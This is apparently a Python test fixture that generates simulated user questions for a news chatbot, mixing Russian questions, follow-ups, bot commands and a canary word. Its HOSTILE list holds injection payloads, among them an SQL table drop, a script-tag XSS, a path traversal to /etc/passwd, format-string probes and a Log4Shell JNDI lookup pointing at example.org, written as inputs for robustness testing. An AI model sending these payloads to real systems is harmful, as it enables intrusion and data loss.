"""What people write: the labelled questions and those on the starter articles, some in Russian, some hostile."""

import json
from functools import cache
from pathlib import Path
from random import Random

TESTS = Path(__file__).resolve().parents[2] / "tests"
CANARY = "quaggawort"
"""Stands in some questions, so that logs can be searched for what people asked."""

RUSSIAN = (
    "Заявил ли Токаев, что Казахстан присоединяется к параллельному импорту?",
    "Казахстан участвует в параллельном импорте?",
    "Что сказал Токаев о санкциях против России?",
    "Кто сказал, что завод закроют?",
    "Сколько зерна собрали в этом году?",
    "Базовая ставка была повышена?",
)
FOLLOW_UPS = (
    "and what did Germany say?",
    "when was that?",
    "who said so?",
    "and in 2023?",
    "а что сказала Германия?",
    "did he deny it?",
)
HOSTILE = (
    "<b>did</b> *the* _mill_ [close](tg://user?id=1) `x`?",
    "did the mill close? \u202ekcab\u202c \u200b\u200b\u200c",
    "@admin #news /start https://example.org/?q=<script>alert(1)</script>",
    "'; DROP TABLE journal; -- did the mill close?",
    "\u2066\u2067\u2068 ¿¡ ﷽ 𒐫 🏴\u200d☠\ufe0f ?",
    "did the mill close? " + "a̸̢̡̛" * 120,
    "..//..//etc/passwd%00 did the mill close?",
    "{0.__class__} %s %n ${jndi:ldap://example.org/a}",
    "?" * 900,
    "did the mill close " * 60,
)
NOT_FOR_THE_BOT = (
    "good morning all",
    "I read that the bridge opens",
    "is it true that the mill closes?",
    "ok",
    "no way!!",
)
TOPICS = ("parallel imports", "the paper mill", "the grain harvest", "rail fares", "the base rate")
COMMANDS = ("/start", "/help", "/sources", "/about", "/new", "/forget", "/language")


@cache
def asked() -> tuple[str, ...]:
    files = (TESTS / "starter_questions.jsonl", TESTS / "labelled" / "questions.jsonl")
    return tuple(json.loads(line)["question"] for file in files for line in file.read_text().splitlines())


def question(random: Random) -> str:
    drawn = random.random()
    if drawn < 0.12:
        return random.choice(RUSSIAN)
    if drawn < 0.17:
        return random.choice(HOSTILE)
    if drawn < 0.20:
        return f"did {CANARY} say that the mill closes?"
    return random.choice(asked())
